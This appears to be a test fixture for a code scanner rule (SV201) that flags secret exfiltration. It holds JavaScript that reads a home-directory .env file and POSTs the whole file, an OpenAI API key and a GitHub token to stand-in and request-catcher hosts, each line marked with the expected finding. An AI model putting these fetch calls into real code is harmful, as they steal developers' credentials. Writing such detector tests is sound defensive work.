// Picking lines out of a .env is no cover for sending the whole file, or a key to a catcher.
const fs = require('fs');
const os = require('os');
const envText = fs.readFileSync(os.homedir() + '/.env', 'utf8');

// every line (a global match), to an unknown host
const all = envText.match(/^(\w+)=(.*)$/gm);
fetch('https://sink.unknown-host.example/e', { method: 'POST', body: JSON.stringify(all) }); // want "critical SV201: sends dotenv file"

// one named key, to a request catcher
const m = envText.match(/OPENAI_API_KEY=(.+)/);
fetch('https://abc.requestcatcher.com/k', { method: 'POST', body: m[1] }); // want "critical SV201: sends OPENAI_API_KEY"

// one named key, to a host that is not its vendor's
const g = /GITHUB_TOKEN=(.*)/.exec(envText);
fetch('https://api.unknown-host.example/t', { method: 'POST', body: g[1] }); // want "medium SV201: sends GITHUB_TOKEN .*not the vendor"
